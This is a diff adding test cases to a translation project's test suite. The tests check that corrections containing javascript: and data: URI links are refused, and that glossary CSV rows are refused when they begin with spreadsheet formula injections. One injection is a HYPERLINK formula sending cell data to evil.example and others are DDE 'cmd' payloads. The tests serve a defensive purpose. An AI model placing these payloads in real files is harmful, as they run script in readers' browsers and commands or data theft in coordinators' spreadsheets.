@@ -244,6 +244,10 @@ def catalogs_entries(project):
     ("", "A paragraph needs words"),
     ("- now a list", "would no longer be one paragraph"),
     ("A *broken emphasis.", "Its markup is not closed"),
+    # A link readers' browsers would run (the source is what translations are checked by).
+    ("Read `the appeal <javascript:alert(document.domain)>`_ now.", "only to a web page"),
+    ("Read javascript:alert(document.domain) now.", "only to a web page"),
+    ("Read `it <DATA:text/html;base64,PHNjcmlwdD4=>`_.", "only to a web page"),
 ])
 def test_a_correction_that_would_break_the_source_is_refused(project, desk_crew, text,
                                                              message):
@@ -372,6 +376,11 @@ def test_a_glossary_edited_in_its_table_is_the_csv_the_checks_read(project, desk
     ([("genocide", "génocide", ""), ("Genocide", "génocide", "")],
      "Row 2 repeats a term given above"),
     ([("solidarity", "", "")], "Row 1 needs both a term and its rendering."),
+    # A cell a spreadsheet would run as a formula when a coordinator opens glossary.csv.
+    ([("war", "guerre", ""), ('=HYPERLINK("https://evil.example/?"&A1,"x")', "y", "")],
+     "Row 2 begins with"),
+    ([("peace", "+cmd|' /C calc'!A0", "")], "Row 1 begins with"),
+    ([("peace", "paix", "@SUM(1+1)*cmd|' /C calc'!A0")], "Row 1 begins with"),
 ])
 def test_a_malformed_glossary_is_refused_and_nothing_written(project, desk_crew, rows,
                                                              message):
